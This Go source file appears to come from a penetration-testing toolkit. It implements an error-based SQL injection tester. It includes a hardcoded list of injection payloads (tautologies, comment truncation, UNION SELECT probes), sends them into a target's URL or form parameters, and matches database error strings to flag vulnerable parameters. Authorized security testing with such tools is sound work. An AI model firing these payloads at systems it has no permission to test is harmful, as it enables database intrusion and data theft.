package web

import (
	"context"
	"net/url"
	"strings"

	"github.com/CodeMonkeyCybersecurity/pantest/internal/core"
	"github.com/CodeMonkeyCybersecurity/pantest/internal/params"
	"github.com/CodeMonkeyCybersecurity/pantest/pkg/types"
)

var sqlPayloads = []string{
	"' OR '1'='1",
	"' OR 1=1--",
	"' OR 1=1 #",
	"' OR 1=1/*",
	"admin' --",
	"admin' #",
	"admin'/*",
	"' or 'a'='a",
	"') OR ('1'='1",
	"1' UNION SELECT NULL--",
	"1' UNION SELECT NULL, NULL--",
	"1' UNION SELECT NULL, NULL, NULL--",
}

var sqlErrorIndicators = []string{
	"SQL syntax",
	"mysql_fetch",
	"Warning: MySQL",
	"Unclosed quotation mark",
	"SQL Server",
	"ORA-",
}

type SQLInjectTool struct {
	core.Base
	env *core.Env
}

type sqlParams struct {
	URL       string `param:"url"`
	Parameter string `param:"parameter"`
}

func NewSQLInject(env *core.Env) core.Tool {
	env = core.Ensure(env)
	return &SQLInjectTool{
		Base: core.NewBase(types.ToolMetadata{
			Name:         "SQL Injection Tester",
			Category:     types.CategoryWeb,
			Description:  "Error-based SQL injection probe of query and form parameters",
			Usage:        "pantest run sql-inject --url 'http://target.com/page.php?id=1' [-P parameter=id]",
			Requirements: []string{"authorization to test the target"},
			Tags:         []string{"web", "sql-injection", "vulnerability", "testing"},
			RiskLevel:    types.RiskHigh,
		}, env.Log()),
		env: env,
	}
}

func (t *SQLInjectTool) parse(p params.Params) (sqlParams, *url.URL, error) {
	var sp sqlParams
	if err := params.Require(p, "url"); err != nil {
		return sp, nil, err
	}
	if err := params.Decode(p, &sp); err != nil {
		return sp, nil, err
	}
	if err := params.MustBeURL("url", sp.URL); err != nil {
		return sp, nil, err
	}
	u, err := url.Parse(sp.URL)
	if err != nil {
		return sp, nil, types.Wrap(types.KindValidation, err, "invalid URL")
	}
	return sp, u, nil
}

func (t *SQLInjectTool) Validate(p params.Params) bool {
	return t.Check(func() error { _, _, err := t.parse(p); return err })
}

// findIndicator returns the first SQL error message present in body but
// absent from the baseline response.
func findIndicator(body, baseline string) string {
	lb, lbase := strings.ToLower(body), strings.ToLower(baseline)
	for _, ind := range sqlErrorIndicators {
		li := strings.ToLower(ind)
		if strings.Contains(lb, li) && !strings.Contains(lbase, li) {
			return ind
		}
	}
	return ""
}

func (t *SQLInjectTool) Run(ctx context.Context, p params.Params) types.Record {
	t.Begin()
	sp, target, err := t.parse(p)
	if err != nil {
		return t.Fail(err)
	}
	pr, err := newProber(t.env)
	if err != nil {
		return t.Fail(types.Wrap(types.KindTool, err, "http client"))
	}

	t.Log().Infow("Testing for SQL injection", "url", sp.URL)
	names := pr.parameterNames(ctx, target, sp.Parameter)
	if len(names) == 0 {
		t.AddWarning("no query or form parameters found to test")
	}

	baseline := ""
	if page, err := pr.get(ctx, target); err == nil {
		baseline = page.Text()
	}

	vulnerable := []string{}
	for _, name := range names {
		res := types.Record{"parameter": name, "vulnerable": false, "payloads_tested": 0}
		hits := []types.Record{}
		tested := 0
		for _, payload := range sqlPayloads {
			if ctx.Err() != nil {
				break
			}
			tested++
			page, err := pr.send(ctx, target, name, payload)
			if err != nil {
				t.Log().Debugw("Request error", "parameter", name, "error", err)
				continue
			}
			if ind := findIndicator(page.Text(), baseline); ind != "" {
				hits = append(hits, types.Record{"payload": payload, "indicator": ind})
				t.Log().Warnw("Potential SQL injection", "parameter", name, "payload", payload)
			}
		}
		res["payloads_tested"] = tested
		res["successful_payloads"] = hits
		if len(hits) > 0 {
			res["vulnerable"] = true
			vulnerable = append(vulnerable, name)
		}
		t.AddResult(res)
	}

	if len(vulnerable) > 0 {
		t.AddRecommendation("Use parameterized queries or prepared statements")
		t.AddRecommendation("Suppress database error messages in responses")
		t.AddRecommendation("Validate and allow-list input on " + strings.Join(vulnerable, ", "))
	}
	return types.Record{
		"url":                   baseURL(target),
		"vulnerable":            len(vulnerable) > 0,
		"parameters_tested":     len(names),
		"vulnerable_parameters": vulnerable,
	}
}
